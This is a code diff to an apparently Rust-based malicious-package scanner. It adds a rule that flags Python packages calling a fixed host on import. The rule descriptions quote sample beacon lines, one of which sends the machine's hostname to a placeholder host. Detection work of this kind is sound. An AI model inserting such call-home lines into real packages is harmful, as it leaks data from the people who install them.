@@ -100,6 +100,16 @@ correlation!(
     "__init__.py: requests.get('https://x/' + socket.gethostname())"
 );
 correlation!(
+    IMPORT_TIME_BEACON,
+    "correlate/import-time-beacon",
+    High,
+    ImportTime,
+    Some("T1071"),
+    "Python code that runs on every import calls a host or URL written into the package.",
+    "An HTTP client imported at module level is common; a request to a fixed host the moment the package is imported is the package announcing itself, the shape of dependency-confusion beacons and of droppers' first call home.",
+    "__init__.py: requests.get('http://collector.example.net/init')"
+);
+correlation!(
     INSTALL_OVERRIDE,
     "correlate/install-command-runs-code",
     Critical,
@@ -244,6 +254,7 @@ pub static ALL: &[&RuleInfo] = &[
     &SETUP_NETWORK,
     &INSTALL_DOWNLOAD,
     &IMPORT_TIME_ACTION,
+    &IMPORT_TIME_BEACON,
     &INSTALL_OVERRIDE,
     &INSTALL_PROCESS,
     &INSTALL_EXEC,
@@ -300,6 +311,7 @@ pub fn evidence_tags(rule: &RuleInfo) -> &'static [&'static str] {
         }
         id if id == RECON.id || id == FUNCTION_RECON.id => &["sysinfo", "env-dump"],
         id if id == SETUP_NETWORK.id => &["network"],
+        id if id == IMPORT_TIME_BEACON.id => &["fixed-endpoint"],
         id if id == FUNCTION_DROPPER.id => &["file-write", "process"],
         id if id == FUNCTION_DECODE_EXEC.id => &["exec", "decode"],
         id if id == FUNCTION_FETCH_EXEC.id => &["exec", "network"],
@@ -379,6 +391,9 @@ pub fn correlations(signals: &FileSignals, context: &FileContext) -> Vec<&'stati
     }
     if import_network && !install {
         out.push(&IMPORT_TIME_ACTION);
+        if signals.module_level.contains("fixed-endpoint") {
+            out.push(&IMPORT_TIME_BEACON);
+        }
     }
     let acts = signals.has("process")
         || network
